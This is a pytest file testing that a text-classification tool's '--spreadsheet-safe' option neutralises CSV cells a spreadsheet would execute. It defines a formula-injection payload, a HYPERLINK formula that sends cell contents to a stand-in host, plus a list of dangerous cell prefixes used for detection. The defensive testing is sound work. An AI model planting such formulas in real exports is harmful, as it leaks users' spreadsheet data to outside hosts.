"""`--spreadsheet-safe`: no command that writes CSV writes a cell that a spreadsheet would run."""

import csv
import json

import pytest

from stance.storage.spreadsheet import unguard

EVIL = '=HYPERLINK("http://a.example/?"&A1,"Rita praises the new bridge")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def cells(path, delimiter=","):
    with path.open(newline="", encoding="utf-8") as stream:
        return [one for row in csv.reader(stream, delimiter=delimiter, strict=True) for one in row]


@pytest.fixture
def hostile(tmp_path):
    """Rows whose every field is a formula, and whose speaker is an actor."""
    path = tmp_path / "hostile.jsonl"
    rows = [
        {"id": f"=id{n}", "text": f"{EVIL} {n}", "article_id": f"@a{n}", "+column": "-1+1"}
        | {"title": "=1+1", "outlet": "@Paper", "url": "http://a.example", "event": "\t=1"}
        | {"published_at": f"2024-05-{n + 1:02}", "labels": ["for_bridge"], "sent_index": 0}
        for n in range(4)
    ]
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), "utf-8")
    return path


def test_predictions(hostile, model, tmp_path, done):
    """Into a file and into a folder; the cells come back by taking the guard off."""
    done("predict", hostile, "-o", "plain.csv", "--model", model)
    done("predict", hostile, "-o", "safe.csv", "--model", model, "--spreadsheet-safe")
    safe, plain = cells(tmp_path / "safe.csv"), cells(tmp_path / "plain.csv")
    assert any(one.startswith("=") for one in plain)
    assert not any(one.startswith(DANGEROUS) for one in safe)
    assert [unguard(one) for one in safe] == plain
    folder = tmp_path / "parts"
    done("predict", tmp_path / "plain.csv", "-o", f"{folder}/", "--model", model,
         "--spreadsheet-safe")  # fmt: skip
    assert not any(one.startswith(DANGEROUS) for one in cells(folder / "plain.csv"))


def test_the_table_of_who(hostile, bridge_desk, tmp_path, done):
    """who.csv, the list for DNA, and the evidence for a claim."""
    where = ("--project", bridge_desk, "--spreadsheet-safe", "--threshold", "0.01")
    done("who", hostile, "--out", tmp_path / "who", *where)
    found = cells(tmp_path / "who" / "who.csv")
    assert any(EVIL in one for one in found)
    assert not any(one.startswith(DANGEROUS) for one in found)
    found = cells(tmp_path / "who" / "who-dna.csv", ";")
    assert any("HYPERLINK" in one for one in found)
    assert not any(one.startswith(DANGEROUS) for one in found)
    done("who", hostile, "--evidence", "Rita", "--out", tmp_path / "proof", *where)
    found = cells(tmp_path / "proof" / "evidence.csv")
    assert any("HYPERLINK" in one for one in found)
    assert not any(one.startswith(DANGEROUS) for one in found)


def test_scores_exports_and_agreement(hostile, template, model, tmp_path, done):
    """predictions.csv of `evaluate`, `export`, and what annotators disagree about."""
    done("evaluate", "--data", hostile, "--model", model, "--out", "report", "--spreadsheet-safe")
    assert not any(one.startswith(DANGEROUS) for one in cells(tmp_path / "report/predictions.csv"))
    own = ("--project", tmp_path / "own")
    done("import", hostile, *own, "--codebook", template / "configs" / "codebook.toml")
    for options, n_dangerous in ((("--force",), 1), (("--force", "--spreadsheet-safe"), 0)):
        done("export", "all.csv", *own, *options)
        found = [one for one in cells(tmp_path / "all.csv") if one.startswith(DANGEROUS)]
        assert bool(found) == bool(n_dangerous)
    rows = tmp_path / "answers.jsonl"
    lines = [
        {"text": f"{EVIL} {n}", "id": f"s{n}", "article_id": "a", "annotator": f"=who{k}"}
        | {"labels": [["price"], ["for_bridge"]][k * n % 2]}
        for n in range(4)
        for k in range(2)
    ]
    rows.write_text("".join(json.dumps(row) + "\n" for row in lines), "utf-8")
    done("agreement", "--data", rows, "--csv", "a.csv", "--disputes", "d.csv", "--spreadsheet-safe")
    assert any(EVIL in one for one in cells(tmp_path / "d.csv"))
    found = [one for name in "ad" for one in cells(tmp_path / f"{name}.csv")]
    assert all(_is_number(one) for one in found if one.startswith(DANGEROUS))


def _is_number(text):
    return bool(float(text) or True)
